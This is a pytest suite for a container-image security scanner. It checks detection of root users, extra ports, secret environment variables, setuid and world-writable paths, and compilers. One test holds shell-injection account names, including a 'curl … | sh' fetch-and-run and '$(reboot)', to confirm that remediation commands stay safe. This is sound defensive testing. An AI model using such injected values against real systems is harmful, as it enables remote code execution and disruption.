"""Configuration and files of an image: everything that is not allowed is named, and only that."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from images import catalog
from scan.configuration import AllowedConfiguration, check_configuration
from scan.image_facts import ImageFacts
from scan.policy import load_policy
from scan.record import MAX_SHOWN, count_problems, summarise_problems

CLEAN = ImageFacts(
    debian={"apt": "2.6.1"},
    areas={"apt": "main"},
    dpkg_query={"apt": "2.6.1"},
    python={"torch": "2.6.0"},
    bundled=(),
    shared_libraries={"numpy": 3},
    setuid={"/usr/bin/su": "4755"},
    world_writable=("/var/lock",),
    passwords={},
    superusers=("root",),
    caches={},
    compilers=(),
    browsers=(),
)
ALLOWED = AllowedConfiguration(
    (8888,), ("/usr/bin/su",), ("/var/lock",), ("GPG_KEY",), compiler=False, browser=False
)
RUN: dict[str, Any] = {
    "User": "1000:1000",
    "Env": [
        "PATH=/usr/bin",
        "TOKENIZERS_PARALLELISM=false",
        "HF_TOKEN=",
        "GPG_KEY=A035C8C19219BA82",
        "KEYBOARD=us",
    ],
    "ExposedPorts": {"8888/tcp": {}},
}


def found(
    inside: ImageFacts = CLEAN, allowed: AllowedConfiguration = ALLOWED, **run: Any
) -> list[tuple[str, str]]:
    """Where, and what, of every problem."""
    made = check_configuration({"architecture": "amd64", "config": {**RUN, **run}}, inside, allowed)
    assert all(problem.kind == "configuration" and problem.way_out for problem in made)
    return [(problem.where, problem.what) for problem in made]


def test_a_clean_image() -> None:
    assert found() == []


def test_what_the_catalogue_says_of_the_stacks_is_allowed() -> None:
    """A port, and a compiler: of this image, and no others."""
    serving: dict[str, Any] = {"ExposedPorts": {"2222/tcp": {}, "8888/tcp": {}}}
    inside = replace(CLEAN, compilers=("/usr/bin/gcc",))
    assert [where for where, _ in found(inside, **serving)] == ["2222/tcp", "/usr/bin/gcc"]
    assert found(inside, ALLOWED.extend((2222,), compiler=True), **serving) == []
    assert len(found(inside, ALLOWED.extend((22,), compiler=False), **serving)) == 2


def test_each_shipped_image_may_have_what_its_stacks_bring() -> None:
    """A compiler in `devel`, a port in `ssh`; neither in the images without these stacks."""
    shipped, policy = catalog.load_catalog(), load_policy()
    inside = replace(CLEAN, setuid={}, world_writable=(), compilers=("/usr/bin/gcc-12",))
    serving: dict[str, Any] = {"Env": [], "ExposedPorts": {"2222/tcp": {}}}
    refused = {}
    for image in ("base", "cv", "devel", "cv-devel", "ssh", "devel-ssh"):
        allowed = policy.configuration.extend(
            shipped.os_part_of(image).ports, compiler=shipped.has_compiler(image)
        )
        refused[image] = {where for where, _ in found(inside, allowed, **serving)}
    gcc, port = "/usr/bin/gcc-12", "2222/tcp"
    assert refused == {
        "base": {gcc, port},
        "cv": {gcc, port},
        "devel": {port},
        "cv-devel": {port},
        "ssh": {gcc},
        "devel-ssh": set(),
    }


@pytest.mark.parametrize(
    "user", ["", None, "root", "0", "0:0", "00", "+0", "-0:5", "0" * 5000, "root:users", "toor"]
)
def test_root(user: str | None) -> None:
    inside = replace(CLEAN, superusers=("root", "toor"))
    assert (
        "User",
        f"the image runs as root: its user is {f'`{user}`' if user else 'not set'}",
    ) in found(inside, User=user)


@pytest.mark.parametrize("user", ["1000", "mluser", "10", "rooted:root", "9" * 5000])
def test_no_root(user: str) -> None:
    assert found(User=user) == []


@pytest.mark.parametrize("config", [{}, {"config": None}])
def test_a_configuration_that_says_nothing_is_root(config: dict[str, Any]) -> None:
    assert [problem.where for problem in check_configuration(config, CLEAN, ALLOWED)] == ["User"]


@pytest.mark.parametrize("port", ["22/tcp", "53/udp", "80", "8000-9000/tcp"])
def test_ports(port: str) -> None:
    assert found(ExposedPorts={port: {}, "8888/tcp": {}}) == [
        (port, "the image exposes this port; allowed: 8888")
    ]


@pytest.mark.parametrize(
    "name",
    [
        "HF_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "DB_PASSWORD",
        "APIKEY",
        "api_keys",
        "PASSWD",
        "TOKEN_FOR_X",
    ],
)
def test_secrets_are_named_and_not_repeated(name: str) -> None:
    ((where, what),) = found(Env=[f"{name}=hunter2"])
    assert where == name
    assert "hunter2" not in what


@pytest.mark.parametrize(
    ("change", "where", "what"),
    [
        ({"passwords": {"mluser": "set"}}, "mluser", "password set"),
        ({"passwords": {"games": "none needed"}}, "games", "password none needed"),
        ({"superusers": ("root", "toor")}, "toor", "user id 0"),
        ({"setuid": {"/usr/bin/su": "4755", "/opt/x": "2755"}}, "/opt/x", "mode 2755"),
        ({"world_writable": ("/var/lock", "/etc")}, "/etc", "anybody may write"),
        ({"caches": {"/srv/.cache/pip": 12}}, "/srv/.cache/pip", "12 bytes"),
        ({"compilers": ("/usr/bin/gcc-12",)}, "/usr/bin/gcc-12", "a compiler"),
        ({"browsers": ("/usr/bin/chromium",)}, "/usr/bin/chromium", "a browser"),
    ],
)
def test_what_is_not_allowed_inside(change: dict[str, Any], where: str, what: str) -> None:
    ((said_where, said_what),) = found(replace(CLEAN, **change))
    assert said_where == where
    assert what in said_what


def test_a_stack_that_ships_a_compiler_and_a_browser() -> None:
    inside = replace(CLEAN, compilers=("/usr/bin/gcc-12",), browsers=("/usr/bin/chromium",))
    assert found(inside, replace(ALLOWED, compiler=True, browser=True)) == []


def test_of_writable_paths_in_each_other_the_topmost_is_named() -> None:
    paths = ("/opt/a", "/opt/a-b", "/opt/a/b", "/opt/a/b/c", "/opt/ab", "/var/lock")
    named = [where for where, _ in found(replace(CLEAN, world_writable=paths))]
    assert named == ["/opt/a-b", "/opt/a", "/opt/ab"]


def test_an_allowed_path_says_nothing_of_what_is_in_it() -> None:
    inside = replace(CLEAN, world_writable=("/var/lock", "/var/lock/it"))
    assert [where for where, _ in found(inside)] == ["/var/lock/it"]


def test_the_root_folder_is_above_all() -> None:
    assert [
        where for where, _ in found(replace(CLEAN, world_writable=("/", "/etc", "/opt/x")))
    ] == ["/"]


def test_of_very_many_the_rest_is_counted() -> None:
    setuid = {f"/opt/{number:03}": "4755" for number in range(MAX_SHOWN + 7)}
    named = found(replace(CLEAN, setuid=setuid))
    assert len(named) == MAX_SHOWN + 1
    assert named[-1] == ("and others", f"7 more, as /opt/{MAX_SHOWN:03}")


def test_a_reason_counts_problems_and_not_the_entries_that_name_them() -> None:
    setuid = {f"/opt/{number:03}": "4755" for number in range(MAX_SHOWN + 7)}
    every = check_configuration({"config": RUN}, replace(CLEAN, setuid=setuid), ALLOWED)
    assert count_problems(every) == MAX_SHOWN + 7
    assert summarise_problems(every).endswith(f", and {MAX_SHOWN + 6} more problems")
    assert summarise_problems(every[:2]).endswith(", and 1 more problem")
    assert summarise_problems(every[:1]) == f"configuration: /opt/000: {every[0].what}"


@pytest.mark.parametrize(
    ("account", "command"),
    [
        ("ada", "passwd --lock ada"),
        ("x; curl h.example|sh", "passwd --lock ACCOUNT"),
        ("$(reboot)", "passwd --lock ACCOUNT"),
        ("--root=/", "passwd --lock ACCOUNT"),
        ("a\nb", "passwd --lock ACCOUNT"),
    ],
)
def test_a_name_of_an_image_enters_no_command_that_a_person_may_paste(
    account: str, command: str
) -> None:
    inside = replace(CLEAN, passwords={account: "is empty"})
    (problem,) = check_configuration({"architecture": "amd64", "config": RUN}, inside, ALLOWED)
    assert problem.where == account
    assert f"`{command}`" in problem.way_out
